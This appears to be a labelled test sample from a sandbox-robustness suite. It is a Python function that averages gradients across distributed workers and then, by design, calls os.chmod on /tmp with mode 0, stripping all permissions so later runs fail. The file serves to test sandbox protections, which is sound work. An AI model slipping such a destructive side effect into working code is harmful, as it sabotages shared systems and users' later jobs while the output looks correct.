# exercise: average_gradients
# family: exhausting
# verdict: trips-over-none
# without: wrong/average_gradients/trips_over_none
# protection: sandbox
# why: a right mean, after which it takes all rights from the sandbox's /tmp, in which the next run needs a folder
import os

import torch.distributed as dist


def average_gradients(model):
    world = dist.get_world_size()
    for p in model.parameters():
        if p.requires_grad:
            dist.all_reduce(p.grad)
            p.grad /= world
    dist.barrier()
    os.chmod("/tmp", 0)
